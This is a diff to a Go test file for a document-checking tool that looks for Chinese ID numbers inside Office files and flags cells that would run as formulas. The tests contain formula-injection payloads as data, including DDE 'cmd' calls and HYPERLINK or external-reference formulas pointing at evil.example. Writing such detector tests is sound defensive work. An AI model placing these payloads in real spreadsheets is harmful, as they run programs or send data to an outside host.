@@ -79,6 +79,7 @@ func TestPartsThatNobodyNames(t *testing.T) {
 		{"a remark", ".docx", doc(t, `<!-- `+id+` -->`+clean, nil), "正文 " + masked},
 		{"a comment in two runs", ".docx", with("word/comments.xml", `<w:comments><w:p><w:r><w:t>110105</w:t></w:r><w:r><w:t>19491231002X</w:t></w:r></w:p></w:comments>`), "批注 " + masked},
 		{"a variable", ".docx", with("word/settings.xml", `<w:settings><w:docVars><w:docVar w:val="`+id+`"/></w:docVars></w:settings>`), "部件“word/settings.xml” " + masked},
+		{"symbols", ".docx", doc(t, `<w:p><w:r><w:t>11010519491231002</w:t><w:sym w:font="Arial" w:char="F058"/></w:r></w:p>`, nil), "正文 " + masked},
 		{"a part of an unknown kind", ".docx", with("word/data.dat", "\x01\x02\xff\xff"), "有没检查的部分：word/data.dat"},
 
 		{"a sheet that is not there", ".xlsx", in("xl/workbook.xml", workbook, "xl/_rels/workbook.xml.rels", relations("worksheet", "worksheets/s.xml")), "有没检查的部分：名单"},
@@ -99,6 +100,7 @@ func TestPartsThatNobodyNames(t *testing.T) {
 		{"a query", ".xlsx", sheets("xl/queryTables/queryTable1.xml", `<queryTable name="`+id+`"/>`), "部件“xl/queryTables/queryTable1.xml” " + masked},
 		{"a formula", ".xlsx", book(t, nil, [2]string{"名单", `<row r="1"><c r="A1"><f>"110105"&amp;"19491231002X"</f></c></row>`}), "工作表“名单” " + masked},
 		{"what may be chosen", ".xlsx", book(t, nil, [2]string{"名单", sheet + `<dataValidation><formula1>"` + id + `,无"</formula1></dataValidation>`}), "工作表“名单” " + masked},
+		{"a sheet in binary form", ".xlsx", sheets("xl/worksheets/sheet2.bin", "\x01\x02\xff"), "有没检查的部分：xl/worksheets/sheet2.bin"},
 		{"a name that is defined", ".xlsx", sheets("xl/workbook2.xml", `<workbook><definedName name="a">"`+id+`"</definedName></workbook>`), "部件“xl/workbook2.xml” " + masked},
 
 		{"a chart", ".pptx", in("ppt/slides/slide1.xml", `<p:sld/>`, "ppt/charts/chart1.xml", `<c:v>`+id+`</c:v>`), "部件“ppt/charts/chart1.xml” " + masked},
@@ -251,8 +253,8 @@ func TestWhatProgramsRun(t *testing.T) {
 }
 
 func TestCellsThatRun(t *testing.T) {
-	runs := []string{"=cmd|'/c calc'!A0", `"=HYPERLINK(""http://evil.example/""&A1,""x"")"`, "=1+1", " =A1", "+cmd|'/c calc'!A0", "@SUM(A1)", "-1+cmd|' /c calc'!A0", "＝HYPERLINK(A1)", "a;=A1;b"}
-	still := []string{"-", "--", "-5%", "-3.5", "+86 0851", "-1,2", "- 说明（略）", "@所有人", "=", "===", `"=""00123"""`, "=300", "－（无）", "－", "a=b", "1-2", "=>", "-3(下降)", "+/-"}
+	runs := []string{"=cmd|'/c calc'!A0", `"=HYPERLINK(""http://evil.example/""&A1,""x"")"`, " =SUM(A1)", `='\\\\evil.example\\a\\[b.xlsx]甲'!A1`, "+cmd|'/c calc'!A0", "@SUM(A1)", "-1+cmd|' /c calc'!A0", "＝HYPERLINK(A1)", "a;=SUM(A1);b"}
+	still := []string{"=D6+E6", "=1+1", "-", "--", "-5%", "-3.5", "+86 0851", "-1,2", "- 说明（略）", "@所有人", "=", "===", `"=""00123"""`, "=300", "－（无）", "－", "a=b", "1-2", "=>", "-3(下降)", "+/-"}
 	for i, cell := range append(runs, still...) {
 		want := ""
 		if i < len(runs) {
